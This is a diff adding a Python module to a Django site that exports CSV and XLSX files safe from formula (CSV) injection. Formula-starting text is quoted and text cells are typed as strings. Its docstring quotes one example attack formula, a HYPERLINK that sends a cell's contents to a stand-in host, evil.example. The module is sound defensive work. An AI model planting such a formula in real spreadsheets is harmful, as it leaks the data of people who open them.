@@ -1,0 +1,121 @@
+"""Spreadsheet files written safely: a text cell is always text, never a formula.
+
+Names reach the downloads from anyone (a roster file, an event's name), and a spreadsheet
+program runs a cell such as `=HYPERLINK("http://evil.example/?d="&A2,"Click")` as a formula
+when the file is opened. So, for every download of the site:
+- XLSX: each text cell is written with its data type set to string (`t="inlineStr"`), so a
+  leading `=` is shown, not evaluated; numbers stay numbers.
+- CSV: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
+  single quote in front (OWASP's advice for CSV injection), which spreadsheet programs read
+  as "this is text". Numbers (negative ones too) are written as they are.
+
+A cell is a number when its value is an int, float or Decimal (not a bool); anything else is
+text (None is an empty cell). `SafeCSV` and `SafeXLSX` are the same writers as
+django-import-export formats (settings.EXPORT_FORMATS; clubs.resources.PlayerResource).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Sequence
+from decimal import Decimal
+from typing import Any
+
+from import_export.formats import base_formats
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Excel's limits for a sheet's title: 31 characters, none of these.
+_SHEET_TITLE_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", "-"))
+_MAX_COLUMN_WIDTH = 60
+
+Row = Sequence[object]
+
+
+def is_number(value: object) -> bool:
+    """True for the values a spreadsheet should get as numbers: int, float, Decimal, not bool."""
+    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)
+
+
+def csv_cell(value: object) -> object:
+    """`value` as a CSV cell: a number unchanged, None as "", text with a formula start quoted.
+
+    `"=1+2"` becomes `"'=1+2"`, `"-2"` (text) becomes `"'-2"`, the number -2 stays -2.
+    """
+    if value is None:
+        return ""
+    if is_number(value):
+        return value
+    text = str(value)
+    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
+
+
+def csv_text(rows: Iterable[Row], *, delimiter: str = ",") -> str:
+    """The rows (the first is the header) as CSV text, each cell through `csv_cell`."""
+    out = io.StringIO()
+    writer = csv.writer(out, delimiter=delimiter)
+    for row in rows:
+        writer.writerow([csv_cell(value) for value in row])
+    return out.getvalue()
+
+
+def xlsx_bytes(rows: Iterable[Row], *, title: str) -> bytes:
+    """The rows as an XLSX workbook of one sheet named `title` (cut to Excel's 31 characters).
+
+    The first row is the header (bold, kept in view when scrolling). Numbers are number cells;
+    every other value is a string cell whose type is set explicitly, so no text is ever read as a
+    formula. Characters that XLSX cannot hold (control characters other than tab, line feed and
+    carriage return) are replaced by U+FFFD rather than failing the download.
+    """
+    # Imported here: the settings import this module (EXPORT_FORMATS), and need no openpyxl.
+    from openpyxl import Workbook
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+    from openpyxl.styles import Font
+    from openpyxl.utils import get_column_letter
+
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.title = (title.translate(_SHEET_TITLE_FORBIDDEN) or "Sheet")[:31]
+    bold = Font(bold=True)
+    widths: dict[int, int] = {}
+    for row_number, row in enumerate(rows, start=1):
+        for column, value in enumerate(row, start=1):
+            cell = sheet.cell(row=row_number, column=column)
+            if value is None:
+                continue
+            if is_number(value):
+                cell.value = value
+                text = str(value)
+            else:
+                text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(value))
+                cell.value = text
+                cell.data_type = "s"  # after the value: openpyxl would take a leading "=" as a formula
+            if row_number == 1:
+                cell.font = bold
+            widths[column] = max(widths.get(column, 0), len(text))
+    if sheet.max_row > 1:
+        sheet.freeze_panes = "A2"
+    for column, width in widths.items():
+        sheet.column_dimensions[get_column_letter(column)].width = min(width + 2, _MAX_COLUMN_WIDTH)
+    out = io.BytesIO()
+    workbook.save(out)
+    return out.getvalue()
+
+
+def _dataset_rows(dataset: Any) -> list[Row]:
+    rows: list[Row] = [list(dataset.headers)] if dataset.headers else []
+    return [*rows, *(list(row) for row in dataset)]
+
+
+class SafeCSV(base_formats.CSV):
+    """django-import-export's CSV format, written by `csv_text` (formula starts quoted)."""
+
+    def export_data(self, dataset: Any, **kwargs: Any) -> str:
+        return csv_text(_dataset_rows(dataset))
+
+
+class SafeXLSX(base_formats.XLSX):
+    """django-import-export's XLSX format, written by `xlsx_bytes` (text cells typed as text)."""
+
+    def export_data(self, dataset: Any, **kwargs: Any) -> bytes:
+        return xlsx_bytes(_dataset_rows(dataset), title=dataset.title or "Sheet")
